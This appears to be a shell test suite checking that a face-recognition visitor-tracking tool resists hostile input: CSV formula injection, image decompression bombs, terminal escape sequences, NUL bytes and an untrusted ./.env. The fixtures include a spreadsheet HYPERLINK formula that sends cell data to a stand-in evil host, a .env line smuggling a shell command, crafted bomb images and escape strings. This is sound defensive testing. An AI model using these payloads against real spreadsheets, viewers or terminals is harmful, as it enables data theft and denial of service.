#!/bin/sh
# Hostile input and careless set-ups: spreadsheet formulas in CSV, image
# bombs, terminal escapes, over-long fields, NUL and BOM in imports,
# signals while loading, an untrusted ./.env, frames from the future and
# mail settings cron will not see.
. "$(dirname "$0")/lib.sh"

EVIL='=HYPERLINK("http://evil.example/?x="&A1,"Click")'

# csv_cell FILE ROW COL: the decoded cell (rows and columns from 1).
csv_cell() {
	csv_decode "$1" | awk -F "$tab" -v r="$2" -v c="$3" 'NR == r { print $c }'
}

for store in $(test_stores); do
mkdir "$TEST_DIR/$store"
cd "$TEST_DIR/$store" || exit 1
use_store "$store"

test_expect_success "$store: a formula-like customer and a visit" '
	ft-enroll add --name "$EVIL" --email "+1@evil.example" >c.json &&
	id=$(store_sql "SELECT id FROM customers") &&
	store_sql "INSERT INTO visits (customer_id, ts, source)
		   VALUES ($id, $(ms_of 2026-11-23T10:00:00Z), '\''@cam'\'')"
'

test_expect_success "$store: ft-report neutralises text cells, not counts" '
	ft-report --yesterday >path &&
	f=$(cat path) &&
	test_eq "$(csv_cell "$f" 2 2)" "'\''$EVIL" name &&
	test_eq "$(csv_cell "$f" 2 3)" "'\''+1@evil.example" email &&
	test_eq "$(csv_cell "$f" 2 5)" "'\''@cam" source &&
	test_eq "$(csv_cell "$f" 2 6)" 1 number &&
	ft-report --yesterday --summary >path &&
	f=$(cat path) &&
	test_eq "$(csv_cell "$f" 2 2)" "'\''$EVIL" summary-name &&
	test_eq "$(csv_cell "$f" 2 4)" 1 visits
'

test_expect_success "$store: ft-query --format csv neutralises strings only" '
	ft-query visits --format csv \
		--jq ".d = -1.5 | .e = \"-1.5\" | .q = \"'\'''\''=x\"" \
		>v.csv &&
	csv_decode v.csv >got &&
	head -1 got | tr "$tab" "\n" >cols &&
	col() { awk -v k="$1" "\$0 == k { print NR }" cols; } &&
	test_eq "$(csv_cell v.csv 2 $(col name))" "'\''$EVIL" name &&
	test_eq "$(csv_cell v.csv 2 $(col source))" "'\''@cam" source &&
	test_eq "$(csv_cell v.csv 2 $(col d))" "-1.5" number &&
	test_eq "$(csv_cell v.csv 2 $(col e))" "'\''-1.5" string &&
	test_eq "$(csv_cell v.csv 2 $(col q))" "'\'''\'''\''=x" quoted
'

test_expect_success "$store: importing what was written adds no quotes" '
	ft-query customers --format csv \
		--jq "{name, email, notes: \"'\''=x\"}" >c.csv &&
	ft-enroll import c.csv >new.json &&
	test_eq "$(json_get new.json .name)" "$EVIL" name &&
	test_eq "$(json_get new.json .email)" "+1@evil.example" email &&
	test_eq "$(json_get new.json .notes)" "'\''=x" notes &&
	ft-query customers --format csv \
		--jq "select(.id == \"$(json_get new.json .id)\") |
		      {name, email, notes}" >again.csv &&
	test_cmp c.csv again.csv
'
done

# --- image bombs ---

# small_jpeg FILE: a 16x16 JPEG made by ft-capture from a PPM.
small_jpeg() {
	perl -e 'print "P6\n16 16\n255\n", map { chr($_ * 37 % 256) } 1 .. 768' \
		>"$1.ppm" &&
	ft-capture --source "$1.ppm" | jq -r .jpeg | base64 -d >"$1"
}

# jpeg_claim W H <IN >OUT: the JPEG with its frame header (SOFn) saying
# W by H; the pixels stay those of IN.
jpeg_claim() {
	perl -e '
		my ($w, $h) = @ARGV; binmode STDIN; binmode STDOUT;
		local $/; my $d = <STDIN>; my $i = 2;
		while ($i < length $d) {
			my ($ff, $m, $len) = unpack "CCn", substr($d, $i, 4);
			die "no marker at $i\n" unless $ff == 0xff;
			if ($m >= 0xc0 && $m <= 0xcf && $m != 0xc4 &&
			    $m != 0xc8 && $m != 0xcc) {
				substr($d, $i + 5, 4) = pack "nn", $h, $w;
				print $d; exit 0;
			}
			$i += 2 + $len;
		}
		die "no frame header\n"' "$@"
}

# png W H [CLAIM_W CLAIM_H]: a grey-ish RGB PNG of W by H whose IHDR
# says CLAIM_W by CLAIM_H.
png() {
	perl -MCompress::Zlib -e '
		my ($w, $h, $cw, $ch) = @ARGV;
		sub chunk { my ($t, $d) = @_;
			pack("N", length $d) . $t . $d . pack("N", crc32($t . $d)) }
		binmode STDOUT;
		print "\x89PNG\r\n\x1a\n",
			chunk("IHDR", pack("NNCCCCC", $cw // $w, $ch // $h,
				8, 2, 0, 0, 0)),
			chunk("IDAT", compress(join "",
				map { "\0" . ("\x80" x (3 * $w)) } 1 .. $h)),
			chunk("IEND", "")' "$@"
}

# frame_path PATH / frame_jpeg FILE: a frame record by path or inline.
frame_path() {
	jq -nc --arg p "$1" \
		'{type: "frame", source: "door", ts: "2026-11-24T11:00:00.000Z",
		  path: $p}'
}
frame_jpeg() {
	jq -nc --arg j "$(base64 -w0 "$1")" \
		'{type: "frame", source: "door", ts: "2026-11-24T11:00:00.000Z",
		  jpeg: $j}'
}

cd "$TEST_DIR" || exit 1
mkdir img
use_store sqlite

test_expect_success 'crafted images: a small JPEG and PNG, and bombs' '
	small_jpeg img/small.jpg &&
	test "$(wc -c <img/small.jpg)" -lt 2000 &&
	jpeg_claim 32767 32767 <img/small.jpg >img/bomb.jpg &&
	jpeg_claim 20000 20000 <img/small.jpg >img/bomb2.jpg &&
	test "$(wc -c <img/bomb.jpg)" = "$(wc -c <img/small.jpg)" &&
	png 8 8 >img/small.png &&
	png 8 8 100000 100000 >img/bomb.png &&
	mkfifo img/fifo.jpg
'

test_expect_success 'ft-capture refuses a bomb before decoding it' '
	(ulimit -v 600000 &&
	 test_exit_status 1 ft-capture --source img/bomb.jpg >out 2>err) &&
	test_must_be_empty out &&
	test_grep "32767x32767 pixels is over the limit of 40000000" err
'

test_expect_success 'ft-capture skips bombs and a FIFO in a directory' '
	mkdir dir &&
	cp img/small.jpg dir/1.jpg && cp img/bomb.jpg dir/2.jpg &&
	cp img/bomb.png dir/3.png && cp img/small.png dir/4.png &&
	mkfifo dir/5.jpg && cp img/small.jpg dir/6.jpg &&
	(ulimit -v 600000 && timeout 20 ft-capture dir >out 2>err) &&
	test_line_count = 3 out &&
	test "$(jq -r .width out | tr "\n" " ")" = "16 8 16 " &&
	test_grep "2.jpg.*32767x32767 pixels is over the limit" err &&
	test_grep "3.png.*100000x100000 pixels is over the limit" err &&
	test_grep "5.jpg.*not a regular file" err
'

test_expect_success 'FT_MAX_IMAGE_PIXELS and FT_MAX_IMAGE_BYTES set the limits' '
	FT_MAX_IMAGE_PIXELS=255 test_exit_status 1 \
		ft-capture img/small.jpg >out 2>err &&
	test_grep "16x16 pixels is over the limit of 255 " err &&
	FT_MAX_IMAGE_PIXELS=256 ft-capture img/small.jpg >out &&
	test_line_count = 1 out &&
	n=$(wc -c <img/small.jpg) &&
	FT_MAX_IMAGE_BYTES=$((n - 1)) test_exit_status 1 \
		ft-capture img/small.jpg >out 2>err &&
	test_grep "of $n bytes is over the limit of $((n - 1)) (FT_MAX_IMAGE_BYTES)" err &&
	FT_MAX_IMAGE_BYTES=$n ft-capture img/small.jpg >out &&
	FT_MAX_IMAGE_BYTES=lots test_exit_status 1 \
		ft-capture img/small.jpg >out 2>err &&
	test_grep "bad FT_MAX_IMAGE_BYTES" err
'

if ft-recognize --models >/dev/null 2>&1; then
test_expect_success 'ft-recognize: bombs among images are refused, the rest read' '
	(ulimit -v 1500000 &&
	 test_exit_status 1 ft-recognize --no-store --stats img/small.jpg \
		img/bomb.jpg img/bomb2.jpg img/bomb.png img/fifo.jpg \
		/dev/zero img/small.png >out 2>err) &&
	test_grep "bomb.jpg.*32767x32767 pixels is over the limit" err &&
	test_grep "bomb2.jpg.*20000x20000 pixels is over the limit" err &&
	test_grep "bomb.png.*100000x100000 pixels is over the limit" err &&
	test_grep "fifo.jpg.*not a regular file" err &&
	test_grep "/dev/zero.*not a regular file" err &&
	test_grep "2 frames in" err
'

test_expect_success 'ft-recognize: bad frames are reported (3), the next one read' '
	{ frame_path "$PWD/img/small.jpg" &&
	  frame_path /dev/zero &&
	  frame_jpeg img/bomb.jpg &&
	  frame_path "$PWD/img/bomb.png" &&
	  frame_path "$PWD/img/small.png"; } >frames &&
	(ulimit -v 1500000 &&
	 test_exit_status 3 ft-recognize --stats <frames >out 2>err) &&
	test_grep "stdin:2: cannot read .*/dev/zero.*not a regular file" err &&
	test_grep "stdin:3: bad .jpeg.: image of 32767x32767 pixels" err &&
	test_grep "stdin:4: .*100000x100000 pixels is over the limit" err &&
	test_grep "2 frames in" err
'

test_expect_success 'ft-enroll: a bomb photo adds nobody' '
	(ulimit -v 1500000 &&
	 test_exit_status 1 ft-enroll add --name Bomb img/bomb.jpg \
		>out 2>err) &&
	test_must_be_empty out &&
	test_grep "bomb.jpg.*32767x32767 pixels is over the limit" err &&
	test "$(ft-query customers --jq "select(.name == \"Bomb\")" |
		wc -l)" = 0
'
else
	test_skip 'ft-recognize and ft-enroll refuse bombs' 'no face models'
fi

# --- terminal escapes and field lengths ---

cd "$TEST_DIR" || exit 1
mkdir esc && cd esc || exit 1
use_store sqlite

test_expect_success 'table output shows control characters as escapes' '
	name=$(printf "Eve\033]0;pwned\007\033[2J\177 \302\233x\tz\nNL") &&
	ft-enroll add --name "$name" --email "ok@example.com" >c.json &&
	ft-query customers --format table >out &&
	test_grep_not "[[:cntrl:]]" out &&
	test_grep_not "$(printf "\302\233")" out &&
	test_grep -F "Eve\x1b]0;pwned\x07\x1b[2J\x7f \u009bx\x09z\x0aNL" out &&
	test_line_count = 2 out &&
	ft-query customers --format table --jq .name >out &&
	test_grep -F "Eve\x1b]0;pwned\x07" out &&
	ft-query customers --format table \
		--jq "{(\"k\\u001b[31m\"): .email}" >out &&
	test_grep -F "k\x1b[31m" out &&
	ft-query customers --format json >out &&
	test "$(json_get out .name)" = "$name"
'

test_expect_success 'names, e-mails and notes have length limits' '
	n200=$(printf "%0200d" 0 | tr 0 é) &&
	ft-enroll add --name "$n200" >ok.json &&
	test "$(json_get ok.json ".name | length")" = 200 &&
	test_exit_status 2 ft-enroll add --name "${n200}x" >out 2>err &&
	test_must_be_empty out &&
	test_grep "name of 201 characters is over the limit of 200" err &&
	big=$(head -c 100000 /dev/zero | tr "\0" a) &&
	test_exit_status 2 ft-enroll add --name "$big" >out 2>err &&
	test_grep "name of 100000 characters is over the limit" err &&
	{ echo name && head -c 1048576 /dev/zero | tr "\0" a && echo; } >mb.csv &&
	test_exit_status 3 ft-enroll import mb.csv >out 2>err &&
	test_grep "mb.csv:2: name of 1048576 characters is over the limit" err &&
	id=$(json_get ok.json .id) &&
	test_exit_status 2 ft-enroll update "$id" \
		--email "$(printf "%0250d@x.org" 0)" >out 2>err &&
	test_grep "e-mail address of 256 characters is over the limit of 254" err &&
	test_exit_status 2 ft-enroll update "$id" \
		--notes "$(printf "%02001d" 0)" >out 2>err &&
	test_grep "notes of 2001 characters is over the limit of 2000" err &&
	ft-enroll update "$id" --notes "$(printf "%02000d" 0)" >out &&
	test "$(json_get out ".notes | length")" = 2000 &&
	{ echo name,notes && echo Ann,short && echo "Bob,$(printf "%02001d" 0)"
	} >long.csv &&
	test_exit_status 3 ft-enroll import long.csv >out 2>err &&
	test_grep "long.csv:3: notes of 2001 characters is over the limit" err &&
	test "$(ft-query customers | wc -l)" = 2
'

# --- NUL and byte-order marks ---

test_expect_success 'CSV import: a byte-order mark is skipped' '
	printf "\357\273\277name,email\r\nBom Ann,bom@example.com\r\n" >bom.csv &&
	ft-enroll import bom.csv >out &&
	test "$(json_get out .name)" = "Bom Ann" &&
	test "$(json_get out .email)" = "bom@example.com"
'

test_expect_success 'CSV import: a NUL in a field is refused, nothing added' '
	before=$(ft-query customers | wc -l) &&
	printf "name,notes\nNul Ann,ok\nNul Bob,ab\000cd\n" >nul.csv &&
	test_exit_status 3 ft-enroll import nul.csv >out 2>err &&
	test_must_be_empty out &&
	test_grep "nul.csv:3: a field holds a NUL byte; nothing imported" err &&
	test "$(ft-query customers | wc -l)" = "$before"
'

if ft-recognize --models >/dev/null 2>&1; then
test_expect_success 'JSON lines: a \u0000 in a string is refused (3)' '
	{ printf "%s\n" "{\"type\":\"frame\",\"source\":\"a\\u0000b\",\"ts\":\"2026-11-24T11:00:00.000Z\",\"path\":\"/nonexistent.jpg\"}" &&
	  frame_path "$TEST_DIR/img/small.jpg"; } >nul.jsonl &&
	test_exit_status 3 ft-recognize --no-store --stats <nul.jsonl \
		>out 2>err &&
	test_grep "stdin:1: a string holds a NUL character" err &&
	test_grep "1 frames in" err
'
else
	test_skip 'JSON lines: a \u0000 in a string is refused' 'no face models'
fi

# --- signals while loading ---

if ft-recognize --models >/dev/null 2>&1; then
test_expect_success 'SIGTERM while ft-recognize loads its models ends it cleanly' '
	ms() { echo $(( $(date +%s%N) / 1000000 )); } &&
	t0=$(ms) && ft-recognize --help >/dev/null && t1=$(ms) &&
	ft-recognize --no-store </dev/null && t2=$(ms) &&
	echo "# to main $((t1 - t0)) ms, models loaded $((t2 - t0)) ms" >&3 &&
	test $((t2 - t1)) -gt 400 &&
	mid=$(( (t1 - t0 + t2 - t0) / 2 )) &&
	mkfifo sig.in &&
	exec 7<>sig.in &&
	{ ft-recognize <sig.in >out 2>err & } &&
	pid=$! &&
	sleep "$((mid / 1000)).$(printf %03d $((mid % 1000)))" &&
	kill -TERM "$pid" &&
	rc=0 &&
	{ wait "$pid" || rc=$?; } &&
	exec 7>&- &&
	test_eq "$rc" 0 "exit status" &&
	test_must_be_empty out &&
	test_must_be_empty err
'
else
	test_skip 'SIGTERM while ft-recognize loads its models' 'no face models'
fi

# --- an untrusted ./.env ---

test_expect_success 'a ./.env others may write is ignored, and ft-schedule says so' '
	mkdir "$TEST_DIR/envdir" && cd "$TEST_DIR/envdir" &&
	conf=$HOME/.config/facetrack/facetrack.conf &&
	mkdir -p "${conf%/*}" &&
	echo "FT_PIPELINE=sleep 30" >"$conf" &&
	printf "FT_PIPELINE=\"touch %s/pwned; sleep 30\"\nFT_DB=sqlite:%s/dotenv.db\n" \
		"$PWD" "$PWD" >.env &&
	chmod 666 .env &&
	export FT_STATE_DIR=$PWD/state &&
	unset FT_DB &&
	test_exit_status 1 ft-query stats >out 2>err &&
	test_grep "SQLite store .\./facetrack.db. does not exist" err &&
	test ! -e dotenv.db &&
	ft-schedule start >out 2>err &&
	sleep 1 &&
	ft-schedule stop >/dev/null 2>&1 &&
	test ! -e pwned &&
	test_grep "ft-schedule: ignoring ./.env: writable by others" err &&
	chmod 664 .env &&
	ft-schedule status >out 2>err &&
	test_grep "ignoring ./.env: writable by others" err &&
	rm -f facetrack.db &&
	chmod 644 .env &&
	test_exit_status 1 ft-query stats >out 2>err &&
	test_grep "SQLite store .$PWD/dotenv.db. does not exist" err &&
	rm .env && mkdir .env &&
	test_exit_status 1 ft-query stats >out 2>err &&
	test_grep "SQLite store .\./facetrack.db. does not exist" err &&
	ft-schedule status >out 2>err &&
	test_grep "ignoring ./.env: not a regular file" err &&
	rm "$conf"
'

if [ "$(id -u)" = 0 ] && id nobody >/dev/null 2>&1; then
test_expect_success 'a ./.env of another user is ignored' '
	mkdir "$TEST_DIR/envother" && cd "$TEST_DIR/envother" &&
	echo "FT_DB=sqlite:$PWD/dotenv.db" >.env &&
	chmod 644 .env && chown nobody .env &&
	export FT_STATE_DIR=$PWD/state &&
	unset FT_DB &&
	test_exit_status 1 ft-query stats >out 2>err &&
	test_grep "SQLite store .\./facetrack.db. does not exist" err &&
	test ! -e dotenv.db &&
	ft-schedule status >out 2>err &&
	test_grep "ignoring ./.env: owned by another user" err
'
else
	test_skip 'a ./.env of another user is ignored' 'needs root'
fi

# --- frames from the future ---

FACE=${FT_TEST_DATA:-$SRCDIR/../shared/data/faces}/Frank_Solich/0001.jpg
if [ -r "$FACE" ] && ft-recognize --models >/dev/null 2>&1; then
test_expect_success 'a frame timed in the future is recorded at the clock, said once' '
	mkdir "$TEST_DIR/future" && cd "$TEST_DIR/future" &&
	export FT_DB=sqlite:$PWD/future.db &&
	before=$(date +%s) &&
	future=$(date -u -d "@$((before + 86400))" +%Y-%m-%dT%H:%M:%S.000Z) &&
	soon=$(date -u -d "@$((before + 120))" +%Y-%m-%dT%H:%M:%S.000Z) &&
	for t in "$future" "$future" "$soon"; do
		jq -nc --arg p "$FACE" --arg ts "$t" \
			"{type: \"frame\", source: \"door\", ts: \$ts, path: \$p}"
	done >frames &&
	ft-recognize --min-sightings 1 --visit-gap 0 <frames >out 2>err &&
	after=$(date +%s) &&
	test "$(grep -c "ahead of the clock" err)" = 1 &&
	test_grep "stdin:1: frame time $future is ahead of the clock" err &&
	jq -r "select(.type == \"face\") | .ts" out >ts &&
	test_line_count = 3 ts &&
	test "$(sed -n 3p ts)" = "$soon" &&
	for t in $(sed -n 1,2p ts); do
		s=$(date -u -d "$t" +%s) &&
		test "$s" -ge "$before" && test "$s" -le "$after" || exit 1
	done &&
	test "$(sqlite3 future.db "SELECT count(*) FROM visits")" -gt 0 &&
	test "$(sqlite3 future.db "SELECT count(*) FROM visits WHERE ts > $((after * 1000 + 300000))")" = 0
'
else
	test_skip 'a frame timed in the future is recorded at the clock' \
		'no development face data or models'
fi

# --- mail settings cron will not see ---

test_expect_success 'ft-schedule report warns of settings cron will not see' '
	mkdir "$TEST_DIR/cron" && cd "$TEST_DIR/cron" &&
	cat >fakecron <<-EOF &&
	#!/bin/sh
	case \$1 in
	-l) cat "$PWD/tab" 2>/dev/null || { echo "no crontab" >&2; exit 1; } ;;
	-) cat >"$PWD/tab" ;;
	-r) rm -f "$PWD/tab" ;;
	esac
	EOF
	export FT_CRONTAB="sh $PWD/fakecron" FT_STATE_DIR=$PWD/state &&
	conf=$HOME/.config/facetrack/facetrack.conf &&
	mkdir -p "${conf%/*}" && : >"$conf" &&
	SMTP_SERVER=smtp.example SMTP_PASSWORD=s3cr3t-pw \
		ADMIN_EMAIL=boss@example.com \
		ft-schedule report --at 23:30 >out 2>err &&
	test_grep "^30 23 \* \* \* .*ft-report.* --yesterday --email$" tab &&
	test_grep "warning: cron runs the report without this environment" err &&
	test_grep "no config file sets SMTP_SERVER, ADMIN_EMAIL, SMTP_PASSWORD, FT_DB;" err &&
	test_grep_not "s3cr3t-pw" err &&
	printf "SMTP_SERVER=smtp.example\nADMIN_EMAIL=boss@example.com\nSMTP_PASSWORD=x\nFT_DB=$FT_DB\n" >"$conf" &&
	SMTP_SERVER=smtp.example SMTP_PASSWORD=s3cr3t-pw \
		ft-schedule report --at 23:45 >out 2>err &&
	test_must_be_empty err &&
	test_grep "^45 23 " tab &&
	rm "$conf" &&
	ft-schedule report --at 23:50 >out 2>err &&
	test_grep "no config file sets SMTP_SERVER, ADMIN_EMAIL, FT_DB;" err
'

test_expect_success 'ft-report refuses a bad SMTP_FROM before writing the CSV' '
	cd "$TEST_DIR/cron" &&
	SMTP_SERVER=127.0.0.1 SMTP_PORT=9 SMTP_FROM="not an address" \
		test_exit_status 1 ft-report --yesterday --email boss@example.com \
		--dir "$PWD/reports" >out 2>err &&
	test_grep "bad SMTP_FROM: .not an address." err &&
	test_must_be_empty out &&
	test ! -e reports &&
	SMTP_SERVER=127.0.0.1 SMTP_PORT=9 SMTP_FROM="Shop <shop@example.com>" \
		test_exit_status 75 ft-report --yesterday --email boss@example.com \
		--dir "$PWD/reports" >out 2>err &&
	test -s "$(cat out)"
'

test_done
